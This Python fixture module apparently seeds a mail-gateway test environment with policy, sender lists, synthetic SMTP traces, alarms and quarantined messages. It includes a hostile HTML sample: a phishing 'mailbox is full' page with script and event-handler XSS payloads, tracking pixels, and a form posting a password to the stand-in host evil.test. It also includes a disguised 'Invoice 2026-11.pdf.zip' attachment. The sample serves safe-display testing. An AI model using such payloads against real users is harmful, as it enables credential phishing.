"""Fills a home with what a small organisation would see on a working day: policy, traces, quarantine, alarms."""

import hashlib
import json
import random
import time
from datetime import UTC, datetime, timedelta
from email.message import EmailMessage
from pathlib import Path

import msgspec
from django.db import transaction

from gateway.backscatter.words import Evidence, Force, Judged, Kind, Verdict
from gateway.checks.judging import findings_of
from gateway.mail.client import Client
from gateway.mail.decisions import Action, Decision, Disposition
from gateway.mail.findings import Finding, Observation, Outcome
from gateway.mail.reply import Reply
from gateway.mail.stages import Stage
from gateway.mail.trace import Event, RecipientTrace, Trace, encode
from gateway.models import (
    Account,
    Backscatterer,
    CheckSetting,
    DnsList,
    Domain,
    Forwarder,
    NodePolicy,
    Recipient,
    Route,
    RouteHost,
    SenderEntry,
    Storm,
    Transaction,
    TransactionRecipient,
)
from gateway.operations import alarms, audit, learning, publish, rows
from gateway.policy.learned import FORGED
from gateway.spool.item import Copy, Item
from gateway.spool.staging import Spool
from tests.samples import NODE, content

HOSTILE_HTML = """<html><head><style>body{background:url(http://evil.test/a)}</style></head><body onload="alert(1)">
<h2>Your mailbox is full</h2><script>document.title='pwned'</script>
<img src="http://evil.test/pixel.gif" onerror=alert(1)>
<p>Dear user, <a href="javascript:alert(2)">click here</a> or
<a href="http://evil.test/login">sign in</a> to keep your mail.</p>
<form action="http://evil.test/post"><input name=password></form><iframe src="http://evil.test/frame"></iframe>
<table background="http://evil.test/bg.png"><tr>
<td style="background:url(http://evil.test/b)">Invoice</td><td>42.00</td></tr></table>
</body></html>"""


def policy() -> None:
    """Make rows of a policy, and publish them."""
    inside = Route.objects.create(name="inside", tls="may")
    RouteHost.objects.create(route=inside, host="127.0.0.1", port=9, position=0)
    RouteHost.objects.create(route=inside, host="mail2.example.test", port=25, position=1)
    smarthost = Route.objects.create(name="smarthost", tls="verified", username="gateway", secret="route-smarthost")
    RouteHost.objects.create(route=smarthost, host="smtp.provider.example", port=465, tls_from_start=True)
    domain = Domain.objects.create(name="example.test", route=inside)
    Domain.objects.create(name="xn--bcher-kva.test", route=inside, observe=True, tag=4)
    for local in ("alice", "bob", "carol", "office", "sales", "support", "accounting", "jobs"):
        Recipient.objects.create(domain=domain, local_part=local)
    Recipient.objects.create(domain=domain, local_part="strict", quarantine=6, reject=9)
    CheckSetting.objects.create(domain=domain, check_name="spam", mode="score", weights={"MISSING_DATE": 3.0})
    CheckSetting.objects.create(domain=None, check_name="spam", mode="observe")
    Forwarder.objects.create(name="backup-mx", networks=["192.0.2.128/28", "2001:db8:5::/48"])
    Account.objects.create(login="printer", secret="account-printer", addresses=["printer@example.test"])
    Account.objects.create(login="crm", secret="account-crm", addresses=["*@example.test"], enabled=False)
    node = NodePolicy.load()
    node.outbound_networks = ["10.0.0.0/8"]
    node.outbound_route = smarthost
    node.save()
    publish.publish_policy("admin")
    domain.reject = 12.0
    domain.save()
    publish.publish_policy("admin")
    Recipient.objects.create(domain=domain, local_part="newcomer")


def door() -> None:
    """Make lists of senders and DNS lists, and a directory."""
    domain = Domain.objects.get(name="example.test")
    alice = Recipient.objects.get(domain=domain, local_part="alice")
    for who, verdict, comment in (
        ("spam.example", "block", "sends nothing else"),
        (".bulk.example", "block", ""),
        ("192.0.2.64/27", "block", "open relay, told on 2026-11-02"),
        ("invoices@partner.example", "allow", "agreed with accounting"),
    ):
        SenderEntry.objects.create(who=who, verdict=verdict, comment=comment)
    SenderEntry.objects.create(who="bank.example", verdict="allow", domain=domain)
    SenderEntry.objects.create(who="ex@far.example", verdict="block", recipient=alice)
    Recipient.objects.create(domain=domain, local_part="info", alias="office@example.test")
    DnsList.objects.create(zone="zen.dnsbl.example", codes={"127.0.0.2": 4.0, "127.0.0.4/30": 6.5, "127.0.0.10": 2.0})
    DnsList.objects.create(zone="good.dnswl.example", kind="allow", codes={"127.0.0.2": -2.0}, enabled=False)
    DnsList.objects.create(zone="ips.backscatterer.example", kind="null_sender")
    domain.validation = ["ldap", "list"]
    domain.ldap = {
        "url": "ldaps://directory.example.test",
        "base": "ou=people,dc=example",
        "bind": "cn=gw",
        "secret": "ldap-1",
    }
    domain.save()
    node = NodePolicy.load()
    node.clients = {"greet_delay": 4.0, "blocked": ["198.51.100.0/24", "2001:db8:bad::/48"]}
    node.limits_of = {"crm": {"messages": 5000, "senders": None}, "10.0.0.17": {"hours": 24.0}}
    node.save()


def mail(home: Path, count: int = 60, seed: int = 7) -> None:
    """Make traces of the last day, of every kind, and put what is quarantined into the spool."""
    chosen = random.Random(seed)  # noqa: S311 - the same pages each time, no secret
    now = datetime.now(UTC)
    kinds = [
        _clean,
        _clean,
        _clean,
        _clean,
        _spam,
        _spam,
        _virus,
        _unknown,
        _mixed,
        _deferred,
        _bounce,
        _abandoned,
        _outbound,
    ]
    for at in range(count):
        moment = now - timedelta(minutes=1 + chosen.random() ** 1.6 * 1400)
        kind = kinds[at] if at < len(kinds) else chosen.choice(kinds)
        trace = kind(f"{int(moment.timestamp() * 1000):x}-{at:04d}", moment.timestamp(), chosen)
        transaction = rows.transaction_of(trace, json.loads(encode(trace)))
        transaction.save()
        TransactionRecipient.objects.bulk_create(rows.recipients_of(trace))
        for copy in rows.copies_of(trace):
            copy.save()
        if any(each.disposition is Disposition.QUARANTINED for each in trace.recipients):
            store(home, trace, message_of(trace))


def message_of(trace: Trace) -> bytes:
    """Make a hostile message for a quarantined trace."""
    message = EmailMessage()
    message["From"] = trace.header_from
    message["To"] = trace.recipients[0].address
    message["Subject"] = trace.subject
    message["Message-ID"] = trace.message_id
    message["Date"] = datetime.fromtimestamp(trace.started, UTC)
    message.set_content(
        "Dear user,\n\nyour mailbox is full. Please sign in at http://evil.test/login to keep your mail.\n"
    )
    message.add_alternative(HOSTILE_HTML, subtype="html")
    message.add_attachment(
        b"PK\x03\x04 not really" * 500, maintype="application", subtype="zip", filename="Invoice 2026-11.pdf.zip"
    )
    return message.as_bytes().replace(b"\n", b"\r\n")


def store(home: Path, trace: Trace, octets: bytes) -> None:
    """Put a message into the spool."""
    kept = [each for each in trace.recipients if each.disposition is Disposition.QUARANTINED]
    item = Item(
        id=trace.id,
        received=trace.started,
        node=trace.node,
        revision=trace.revision,
        listener=trace.listener,
        client=trace.client,
        sender=trace.sender or "",
        parameters=trace.parameters,
        copies=tuple(Copy(each.address, each.route, each.decision) for each in kept if each.decision),
        size=len(octets),
        sha256=hashlib.sha256(octets).hexdigest(),
        header_from=trace.header_from,
        subject=trace.subject,
    )
    Spool(home / "spool", "seed").stage(item, content(octets)).commit()


def system(home: Path) -> None:
    """Make status files, alarms and audit entries."""
    status = home / "status"
    status.mkdir(parents=True, exist_ok=True)
    for slot in (0, 1):
        text = {
            "slot": str(slot),
            "pid": 4100 + slot,
            "revision": 2 - slot,
            "revision_error": "",
            "started": time.time() - 7200,
            "heartbeat": time.time() + 3600,
            "connections": 3 + slot,
            "listeners": ["127.0.0.1:2525", "[::1]:2525"],
        }
        (status / f"smtp-{slot}.json").write_text(json.dumps(text))
    (status / "ingest.json").write_text(json.dumps({"pid": 9, "at": time.time(), "ingested": 60, "trouble": ""}))
    detail = "This is no protection: the machine has no virus signatures, it knows the EICAR test file only."
    (status / "clamd.json").write_text(json.dumps({"protection": "eicar-only", "detail": detail}))
    alarms.raise_alarm(NODE, "route inside: 127.0.0.1:9 refused the connection")
    alarms.raise_alarm(NODE, "route inside: 127.0.0.1:9 refused the connection")
    alarms.raise_alarm(NODE, "clamd did not answer within 60 s")
    audit.record(
        "admin", "release", "19f-0004 for bob@example.test", "from spam@bulk.example, the score 9.0 reaches 8.0"
    )


def storms() -> None:
    """Make a storm that is open, one that is over, and the hosts that brought them."""
    now = datetime.now(UTC)
    message = Transaction.objects.values_list("pk", flat=True).first() or "19f-0004"
    brought = {"192.0.2.7": {"helo": "mx7.reporter.example", "count": 412}}
    brought |= {f"198.51.100.{at}": {"helo": f"mail{at}.far.example", "count": 60 - at} for at in range(1, 30)}
    common = {"domain": "example.test", "sample": message, "reporters": brought}
    Storm.objects.create(
        victim="office@example.test",
        started=now - timedelta(hours=20),
        last=now - timedelta(hours=18),
        until=now - timedelta(hours=17),
        closed=now - timedelta(hours=17),
        count=64,
        refused=64,
        **common,
    )
    Storm.objects.create(
        victim="alice@example.test",
        started=now - timedelta(minutes=34),
        last=now - timedelta(minutes=1),
        until=now + timedelta(minutes=59),
        count=1204,
        refused=1190,
        **common,
    )
    hosts = (
        ("192.0.2.7", 412.0, 0),
        ("2001:db8::25", 21.0, 1),
        ("mx7.reporter.example", 14.5, 1),
        ("198.51.100.9", 40.0, 20),
        ("192.0.2.99", 1.0, 0),
        ("203.0.113.1", -8.0, 2),
    )
    for name, points, days in hosts:
        at = now - timedelta(days=days, minutes=1)
        Backscatterer.objects.create(
            name=name, points=points, first=at - timedelta(days=2), last=at, count=max(0, int(points)), sample=message
        )


def forged(home: Path) -> Transaction:
    """Make a forged bounce to bob that was quarantined, with its verdict; gives its row."""
    started = time.time() - 300
    recipient = "bob@example.test"
    trace = _bounce(f"{int(started * 1000):x}-forged", started, random.Random(1))  # noqa: S311 - no secret
    trace.recipients[0].address = recipient
    evidence = (
        Evidence("batv", Force.AGAINST, "the recipient's tag is not of our making"),
        Evidence("past_gateway", Force.NEUTRAL, "it names <1@example.test>, which the ledger does not have"),
        Evidence("marking", Force.AGAINST, "all mail leaves marked since 2026-09-01, and it holds no mark of ours"),
    )
    judged = Judged(Verdict.FORGED, Kind.BOUNCE, evidence, evidence[0].detail)
    stage = Finding(
        "STAGE", detail="example.test is guided, and at stage quarantine", recipient=recipient, informs=True
    )
    found = (*findings_of("FORGED_BOUNCE", 5.0, judged, recipient), stage)
    seen = Observation(FORGED, Stage.DATA, Outcome.HIT, found, cost_ms=0.4)
    because = f"forged_bounce found FORGED_BOUNCE ({judged.because}); {stage.detail}"
    decision = Decision(Action.QUARANTINE, because, FORGED, "FORGED_BOUNCE")
    trace = _decided(trace, decision, Disposition.QUARANTINED, Reply(250, "2.0.0", f"accepted as {trace.id}"), seen)
    row = rows.transaction_of(trace, json.loads(encode(trace)))
    row.save()
    TransactionRecipient.objects.bulk_create(rows.recipients_of(trace))
    for copy in rows.copies_of(trace):
        copy.save()
    with transaction.atomic():  # as ingest does
        learning.take_in([trace])
    store(home, trace, message_of(trace))
    return row


def _trace(id_: str, started: float, chosen: random.Random, **changes: object) -> Trace:
    """Make a trace of a clean message."""
    sender = chosen.choice(["ann@example.org", "news@shop.example", "kim@partner.example", "no-reply@bank.example"])
    subject = chosen.choice(
        ["Minutes of our meeting", "Your order 4711 has been shipped", "Re: offer", "Lunch on Friday?"]
    )
    recipient = chosen.choice(["alice", "bob", "carol", "office"]) + "@example.test"
    reply = Reply(250, "2.0.0", f"accepted as {id_}")
    made = Trace(
        id=id_,
        started=started,
        node=NODE,
        revision=2,
        listener="inbound",
        client=Client(
            f"198.51.100.{chosen.randrange(1, 250)}",
            port=41022,
            helo=f"mx{chosen.randrange(1, 9)}.{sender.partition('@')[2]}",
            esmtp=True,
            tls="TLSv1.3 TLS_AES_256_GCM_SHA384",
        ),
        sender=sender,
        recipients=[
            RecipientTrace(
                recipient,
                "inside",
                "127.0.0.1:2526",
                "250 2.0.0 Ok: queued as 4D3F2",
                Decision(Action.DELIVER, "nothing speaks against it", score=1.0),
                Disposition.DELIVERED,
                reply,
            )
        ],
        observations=[
            Observation("message_size", Stage.MAIL, Outcome.MISS, cost_ms=0.01),
            Observation("recipient_known", Stage.RCPT, Outcome.MISS, recipient=recipient, cost_ms=0.02),
            Observation("line_ends", Stage.DATA, Outcome.MISS, cost_ms=0.05),
            Observation("loops", Stage.DATA, Outcome.MISS, cost_ms=0.1),
            Observation("clamav", Stage.DATA, Outcome.MISS, cost_ms=12.4),
            Observation("spam", Stage.DATA, Outcome.HIT, (Finding("MISSING_MESSAGE_ID", 1.0),), cost_ms=0.6),
        ],
        events=[
            Event(0.0, "connected", f"220 {NODE} ESMTP"),
            Event(11.2, "EHLO mx1.example.org", "250 HELP"),
            Event(40.1, f"MAIL FROM:<{sender}>", "250 2.1.0 OK"),
            Event(52.9, f"RCPT TO:<{recipient}>", "250 2.1.5 OK"),
            Event(70.0, "DATA", "354 End data with <CR><LF>.<CR><LF>"),
            Event(131.5, "message", str(reply)),
        ],
        size=chosen.randrange(1500, 90_000),
        header_from=f"{sender.partition('@')[0].title()} <{sender}>",
        subject=subject,
        message_id=f"<{id_}@{sender.partition('@')[2]}>",
        disposition="delivered",
        because="nothing speaks against it",
        reply=reply,
        duration_ms=131.5,
    )
    return msgspec.structs.replace(made, **changes)


def _decided(trace: Trace, decision: Decision, disposition: Disposition, reply: Reply, *found: Observation) -> Trace:
    """Change what was decided for the first recipient, and so for the message."""
    first = trace.recipients[0]
    first.decision, first.disposition, first.reply = decision, disposition, reply
    first.next_hop_reply = "" if not decision.action.relays else first.next_hop_reply
    trace.observations.extend(found)
    trace.events[-1] = Event(131.5, "message", str(reply))
    return msgspec.structs.replace(trace, disposition=disposition.value, because=decision.because, reply=reply)


def _clean(id_: str, started: float, chosen: random.Random) -> Trace:
    return _trace(id_, started, chosen)


def _spam(id_: str, started: float, chosen: random.Random) -> Trace:
    trace = _trace(
        id_,
        started,
        chosen,
        subject="!!! YOUR MAILBOX IS FULL !!!",
        sender="support@bulk.example",
        header_from='"IT Support" <support@bulk.example>',
    )
    decision = Decision(Action.QUARANTINE, "the score 9.5 reaches 8.0 (quarantine)", "spam", "SUBJECT_MARKS", 9.5)
    found = Observation(
        "spam",
        Stage.DATA,
        Outcome.HIT,
        (
            Finding("SUBJECT_MARKS", 2.0),
            Finding("SUBJECT_CAPITALS", 2.0),
            Finding("FROM_NAME_IS_OTHER_ADDRESS", 2.5, "it@example.test"),
        ),
        cost_ms=0.7,
    )
    return _decided(trace, decision, Disposition.QUARANTINED, Reply(250, "2.0.0", f"accepted as {id_}"), found)


def _virus(id_: str, started: float, chosen: random.Random) -> Trace:
    trace = _trace(id_, started, chosen, subject="Invoice 2026-11")
    decision = Decision(Action.REJECT, "clamav found VIRUS (Eicar-Test-Signature.UNOFFICIAL)", "clamav", "VIRUS", 1.0)
    found = Observation(
        "clamav", Stage.DATA, Outcome.HIT, (Finding("VIRUS", 20.0, "Eicar-Test-Signature.UNOFFICIAL"),), cost_ms=14.0
    )
    return _decided(
        trace,
        decision,
        Disposition.REJECTED,
        Reply(550, "5.7.1", "message contains a virus: Eicar-Test-Signature.UNOFFICIAL"),
        found,
    )


def _unknown(id_: str, started: float, chosen: random.Random) -> Trace:
    trace = _trace(id_, started, chosen, size=0, subject="", header_from="", message_id="")
    trace.recipients[0].address = "nobody@example.test"
    decision = Decision(
        Action.REJECT,
        "recipient_known found UNKNOWN_RECIPIENT (nobody@example.test)",
        "recipient_known",
        "UNKNOWN_RECIPIENT",
    )
    return _decided(trace, decision, Disposition.REJECTED, Reply(550, "5.1.1", "no such recipient here"))


def _mixed(id_: str, started: float, chosen: random.Random) -> Trace:
    trace = _trace(id_, started, chosen, subject="Offer: 50 % off")
    strict = Decision(Action.QUARANTINE, "the score 6.5 reaches 6.0 (quarantine)", "spam", "SUBJECT_MARKS", 6.5)
    trace.recipients.append(
        RecipientTrace("strict@example.test", "inside", "", "", strict, Disposition.QUARANTINED, trace.reply)
    )
    return msgspec.structs.replace(trace, disposition="mixed", because="the recipients were decided differently")


def _deferred(id_: str, started: float, chosen: random.Random) -> Trace:
    trace = _trace(id_, started, chosen, alarms=["clamd did not answer within 60 s"])
    decision = Decision(Action.DEFER, "clamav timed out: no answer within 60 s", "clamav")
    found = Observation("clamav", Stage.DATA, Outcome.TIMEOUT, cost_ms=60_000, detail="no answer within 60 s")
    return _decided(
        trace, decision, Disposition.DEFERRED, Reply(451, "4.7.1", "can't be checked now, try again later"), found
    )


def _bounce(id_: str, started: float, chosen: random.Random) -> Trace:
    return _trace(
        id_,
        started,
        chosen,
        sender="",
        subject="Undelivered Mail Returned to Sender",
        header_from="MAILER-DAEMON@far.example (Mail Delivery System)",
    )


def _abandoned(id_: str, started: float, chosen: random.Random) -> Trace:
    trace = _trace(id_, started, chosen)
    return msgspec.structs.replace(
        trace,
        sender=None,
        recipients=[],
        observations=[],
        size=0,
        subject="",
        header_from="",
        message_id="",
        reply=None,
        disposition="abandoned",
        because="the client went away before an answer was due",
        events=trace.events[:2],
    )


def _outbound(id_: str, started: float, chosen: random.Random) -> Trace:
    trace = _trace(
        id_,
        started,
        chosen,
        listener="outbound",
        sender="printer@example.test",
        header_from="printer@example.test",
        subject="Scan",
    )
    trace.recipients[0].address, trace.recipients[0].route = "kim@partner.example", "smarthost"
    return msgspec.structs.replace(
        trace, client=Client("10.0.0.17", helo="printer", esmtp=True, tls="TLSv1.3", account="printer")
    )
